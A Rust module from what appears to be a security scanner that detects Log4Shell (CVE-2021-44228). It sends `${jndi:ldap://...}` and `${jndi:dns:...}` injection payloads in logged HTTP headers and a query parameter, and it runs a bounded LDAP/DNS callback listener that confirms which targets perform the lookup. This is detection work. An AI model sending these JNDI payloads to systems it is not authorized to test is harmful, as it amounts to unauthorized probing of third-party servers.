//! The Log4Shell check (CVE-2021-44228): `${jndi:ldap://HOST:PORT/TOKEN}` payloads in the
//! headers that applications log (User-Agent, X-Api-Version, Referer, X-Forwarded-For,
//! Authorization) and in a query parameter, one unique token each, plus one `${jndi:dns:...}`
//! payload; and a built-in callback listener (LDAP over TCP, DNS over UDP, on the callback
//! address) that records which tokens come back.
//!
//! A finding is raised only on a confirmed callback: the token names the target and the header
//! that carried it. The listener answers an LDAP bind and search with success and no entries,
//! and DNS with NXDOMAIN, so a vulnerable client finishes its lookup and loads nothing. It is
//! bounded: 64 connections at once, 5 s per connection, 64 KiB per message, 16 messages per
//! connection, 10,000 recorded callbacks.

pub(crate) mod dns;
pub(crate) mod ldap;

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use rampart_core::Severity;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use tokio::sync::Semaphore;
use tokio::task::JoinHandle;

use crate::finding::{Finding, FindingKind};
use crate::http::{fetch, Request};
use crate::scanner::{Ctx, Service};
use crate::service::random_hex;
use crate::ScanError;

/// Where a token's payload went.
#[derive(Debug, Clone)]
struct Sent {
    target: String,
    carrier: String,
    payload: String,
}

/// A callback received.
#[derive(Debug, Clone)]
struct Hit {
    token: String,
    protocol: &'static str,
    detail: String,
}

/// Tokens handed out before payloads stop (bounds the registry).
const MAX_TOKENS: usize = 200_000;
/// Callbacks recorded.
const MAX_HITS: usize = 10_000;
/// LDAP connections served at once.
const MAX_CONNECTIONS: usize = 64;
/// Time one LDAP connection may take.
const CONNECTION_TIME: Duration = Duration::from_secs(5);
/// LDAP messages served per connection.
const MAX_MESSAGES: usize = 16;
/// Token prefix; a token is the prefix and 16 hex digits.
const TOKEN_PREFIX: &str = "rmp";
const TOKEN_LEN: usize = 19;

/// The callback listener and the token registry.
pub(crate) struct Callbacks {
    ldap: SocketAddr,
    dns: SocketAddr,
    sent: Mutex<HashMap<String, Sent>>,
    hits: Arc<Mutex<Vec<Hit>>>,
    payloads: AtomicU64,
    tasks: Vec<JoinHandle<()>>,
}

impl Callbacks {
    /// Binds LDAP on `addr` (port 0: a free one) and DNS on the same address, a free UDP port.
    pub(crate) async fn start(addr: SocketAddr) -> Result<Self, ScanError> {
        let err = |source| ScanError::Callback {
            addr: addr.to_string(),
            source,
        };
        if addr.ip().is_unspecified() {
            // The address goes into the payloads: it must be one the targets can reach.
            return Err(err(std::io::Error::new(
                std::io::ErrorKind::InvalidInput,
                "the callback address is written into the payloads, so it must be an address the targets can reach, not 0.0.0.0 or ::",
            )));
        }
        let tcp = TcpListener::bind(addr).await.map_err(err)?;
        let udp = UdpSocket::bind(SocketAddr::new(addr.ip(), 0))
            .await
            .map_err(err)?;
        let ldap = tcp.local_addr().map_err(err)?;
        let dns = udp.local_addr().map_err(err)?;
        let hits = Arc::new(Mutex::new(Vec::new()));
        let tasks = vec![
            tokio::spawn(ldap_loop(tcp, hits.clone())),
            tokio::spawn(dns_loop(udp, hits.clone())),
        ];
        Ok(Self {
            ldap,
            dns,
            sent: Mutex::new(HashMap::new()),
            hits,
            payloads: AtomicU64::new(0),
            tasks,
        })
    }

    /// The LDAP listener's address.
    #[cfg(test)]
    pub(crate) fn ldap_addr(&self) -> SocketAddr {
        self.ldap
    }

    /// A new token for a payload to `target` in `carrier`; `None` once the registry is full.
    fn token(&self, target: &str, carrier: &str, protocol: &str) -> Option<(String, String)> {
        let token = format!("{TOKEN_PREFIX}{}", random_hex(8));
        let at = match protocol {
            "dns" => self.dns,
            _ => self.ldap,
        };
        let payload = format!("${{jndi:{protocol}://{at}/{token}}}");
        let mut sent = self.sent.lock().ok()?;
        if sent.len() >= MAX_TOKENS {
            return None;
        }
        sent.insert(
            token.clone(),
            Sent {
                target: target.to_owned(),
                carrier: carrier.to_owned(),
                payload: payload.clone(),
            },
        );
        self.payloads.fetch_add(1, Ordering::Relaxed);
        Some((token, payload))
    }

    /// Payloads sent.
    pub(crate) fn payloads_sent(&self) -> u64 {
        self.payloads.load(Ordering::Relaxed)
    }

    /// One finding per target whose tokens came back, and the number of callbacks received.
    pub(crate) fn confirmed(&self, now_ms: i64) -> (Vec<Finding>, u64) {
        let hits = self.hits.lock().map(|h| h.clone()).unwrap_or_default();
        let sent = self.sent.lock().map(|s| s.clone()).unwrap_or_default();
        let mut by_target: HashMap<String, Vec<String>> = HashMap::new();
        for hit in &hits {
            let Some(s) = sent.get(&hit.token) else {
                continue;
            };
            let line = format!(
                "{} carried {}; the {} listener received {}",
                s.carrier,
                s.payload,
                hit.protocol.to_ascii_uppercase(),
                hit.detail
            );
            let lines = by_target.entry(s.target.clone()).or_default();
            if !lines.contains(&line) {
                lines.push(line);
            }
        }
        let mut out: Vec<Finding> = by_target
            .into_iter()
            .map(|(target, evidence)| {
                Finding::new(
                    FindingKind::Log4shell,
                    Severity::Critical,
                    &target,
                    "",
                    "Log4Shell: a logged request value triggered a JNDI lookup (CVE-2021-44228)",
                    evidence,
                    now_ms,
                )
            })
            .collect();
        out.sort_by(|a, b| a.target.cmp(&b.target));
        (out, hits.len() as u64)
    }

    /// Stops the listeners.
    pub(crate) fn stop(&self) {
        for t in &self.tasks {
            t.abort();
        }
    }
}

impl Drop for Callbacks {
    fn drop(&mut self) {
        self.stop();
    }
}

/// The headers payloads go in, and how each carries it.
const HEADERS: &[(&str, &str)] = &[
    ("user-agent", "{}"),
    ("x-api-version", "{}"),
    ("referer", "{}"),
    ("x-forwarded-for", "{}"),
    ("authorization", "Bearer {}"),
];

/// Sends the payloads to one service: one request per header, one with a query parameter, one
/// with a `dns:` payload in User-Agent. Answers are not read beyond their head.
pub(crate) async fn send_payloads(ctx: &Ctx, svc: &Service, cb: &Callbacks) {
    let mut plans: Vec<(String, &str, &str, &str)> = HEADERS
        .iter()
        .map(|(h, shape)| (format!("header {}", display(h)), *h, *shape, "ldap"))
        .collect();
    plans.push(("query parameter q".into(), "", "", "ldap"));
    plans.push(("header User-Agent".into(), "user-agent", "{}", "dns"));
    for (carrier, header, shape, protocol) in plans {
        let Some((_, payload)) = cb.token(&svc.target, &carrier, protocol) else {
            return;
        };
        let path;
        let mut req = if header.is_empty() {
            path = format!("/?q={}", percent(&payload));
            Request::get(ctx, &path)
        } else {
            let mut r = Request::get(ctx, "/");
            r.headers.push((header, shape.replace("{}", &payload)));
            r
        };
        req.max_body = 0;
        let _ = fetch(ctx, svc, req).await;
    }
}

fn display(header: &str) -> String {
    header
        .split('-')
        .map(|w| {
            let mut c = w.chars();
            c.next()
                .map(|f| f.to_ascii_uppercase().to_string() + c.as_str())
                .unwrap_or_default()
        })
        .collect::<Vec<_>>()
        .join("-")
}

fn percent(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.') {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// Every token-shaped string in `bytes`.
pub(crate) fn tokens_in(bytes: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(bytes).to_ascii_lowercase();
    let mut out = Vec::new();
    let mut rest = text.as_str();
    while let Some(i) = rest.find(TOKEN_PREFIX) {
        let cand = &rest[i..];
        if cand.len() >= TOKEN_LEN
            && cand.as_bytes()[TOKEN_PREFIX.len()..TOKEN_LEN]
                .iter()
                .all(u8::is_ascii_hexdigit)
        {
            out.push(cand[..TOKEN_LEN].to_owned());
        }
        rest = &rest[i + TOKEN_PREFIX.len()..];
        if out.len() >= 8 {
            break;
        }
    }
    out
}

fn record(hits: &Mutex<Vec<Hit>>, bytes: &[u8], protocol: &'static str, detail: String) {
    let tokens = tokens_in(bytes);
    if let Ok(mut h) = hits.lock() {
        for token in tokens {
            if h.len() >= MAX_HITS {
                return;
            }
            h.push(Hit {
                token,
                protocol,
                detail: detail.clone(),
            });
        }
    }
}

async fn ldap_loop(listener: TcpListener, hits: Arc<Mutex<Vec<Hit>>>) {
    let slots = Arc::new(Semaphore::new(MAX_CONNECTIONS));
    loop {
        let Ok((sock, peer)) = listener.accept().await else {
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let Ok(slot) = slots.clone().try_acquire_owned() else {
            continue;
        };
        let hits = hits.clone();
        tokio::spawn(async move {
            let _ = tokio::time::timeout(CONNECTION_TIME, serve_ldap(sock, peer, &hits)).await;
            drop(slot);
        });
    }
}

async fn serve_ldap(mut sock: TcpStream, peer: SocketAddr, hits: &Mutex<Vec<Hit>>) {
    let mut buf = Vec::with_capacity(512);
    let mut chunk = [0u8; 4096];
    let mut served = 0;
    while served < MAX_MESSAGES {
        match ldap::parse_message(&buf) {
            Ok(Some((msg, used))) => {
                buf.drain(..used);
                served += 1;
                let answer = match msg.op {
                    ldap::Op::Bind { name } => {
                        record(hits, &name, "ldap", format!("a BindRequest from {peer}"));
                        ldap::bind_response(msg.id)
                    }
                    ldap::Op::Search { base } => {
                        record(hits, &base, "ldap", format!("a SearchRequest from {peer}"));
                        ldap::search_done(msg.id)
                    }
                    ldap::Op::Unbind => return,
                    ldap::Op::Other(_) => continue,
                };
                if sock.write_all(&answer).await.is_err() {
                    return;
                }
            }
            Ok(None) => {
                if buf.len() > ldap::MAX_MESSAGE + 8 {
                    return;
                }
                match sock.read(&mut chunk).await {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            Err(_) => return,
        }
    }
}

async fn dns_loop(sock: UdpSocket, hits: Arc<Mutex<Vec<Hit>>>) {
    let mut buf = vec![0u8; dns::MAX_DATAGRAM];
    loop {
        let Ok((n, peer)) = sock.recv_from(&mut buf).await else {
            continue;
        };
        let pkt = &buf[..n];
        let Some(q) = dns::parse_query(pkt) else {
            continue;
        };
        record(
            &hits,
            q.name.as_bytes(),
            "dns",
            format!("a query for {} from {peer}", q.name),
        );
        let _ = sock.send_to(&dns::nxdomain(pkt, &q), peer).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_tokens() {
        assert_eq!(
            tokens_in(b"cn=RMP0123456789ABCDEF,dc=x rmp12"),
            vec!["rmp0123456789abcdef".to_owned()]
        );
        assert!(tokens_in(b"rmp-no").is_empty());
        assert_eq!(percent("${a:b}"), "%24%7Ba%3Ab%7D");
        assert_eq!(display("x-api-version"), "X-Api-Version");
    }

    #[tokio::test]
    async fn ldap_and_dns_callbacks_are_matched_to_their_tokens() {
        let cb = Callbacks::start("127.0.0.1:0".parse().unwrap())
            .await
            .unwrap();
        let (token, payload) = cb.token("t:80", "header X-Api-Version", "ldap").unwrap();
        assert!(payload.starts_with("${jndi:ldap://127.0.0.1:"));
        let (dns_token, _) = cb.token("u:80", "header User-Agent", "dns").unwrap();
        let _unused = cb.token("t:80", "header Referer", "ldap").unwrap();

        let mut s = TcpStream::connect(cb.ldap_addr()).await.unwrap();
        s.write_all(&ldap::bind_request(1, b"")).await.unwrap();
        let mut answer = [0u8; 14];
        s.read_exact(&mut answer).await.unwrap();
        assert_eq!(answer.to_vec(), ldap::bind_response(1));
        s.write_all(&ldap::search_request(2, token.as_bytes()))
            .await
            .unwrap();
        s.read_exact(&mut answer).await.unwrap();
        assert_eq!(answer.to_vec(), ldap::search_done(2));

        let udp = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        udp.send_to(&dns::query(5, &dns_token), cb.dns)
            .await
            .unwrap();
        let mut back = [0u8; 512];
        let (n, _) = tokio::time::timeout(Duration::from_secs(5), udp.recv_from(&mut back))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(back[3] & 0x0f, 3, "NXDOMAIN");
        assert!(n > 12);

        let (findings, received) = cb.confirmed(1);
        assert_eq!(received, 2);
        assert_eq!(findings.len(), 2);
        let t = findings.iter().find(|f| f.target == "t:80").unwrap();
        assert_eq!(t.evidence.len(), 1);
        assert!(t.evidence[0].contains("X-Api-Version"), "{:?}", t.evidence);
        assert!(t.evidence[0].contains("LDAP listener received a SearchRequest"));
        let u = findings.iter().find(|f| f.target == "u:80").unwrap();
        assert!(u.evidence[0].contains("DNS listener"), "{:?}", u.evidence);
    }

    #[tokio::test]
    async fn garbage_does_not_hold_the_listener() {
        let cb = Callbacks::start("127.0.0.1:0".parse().unwrap())
            .await
            .unwrap();
        let mut s = TcpStream::connect(cb.ldap_addr()).await.unwrap();
        s.write_all(b"GET / HTTP/1.1\r\n\r\n").await.unwrap();
        let mut rest = Vec::new();
        let n = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut rest))
            .await
            .unwrap()
            .unwrap();
        assert_eq!(n, 0, "closed without an answer");
        assert_eq!(cb.confirmed(1).1, 0);
    }
}
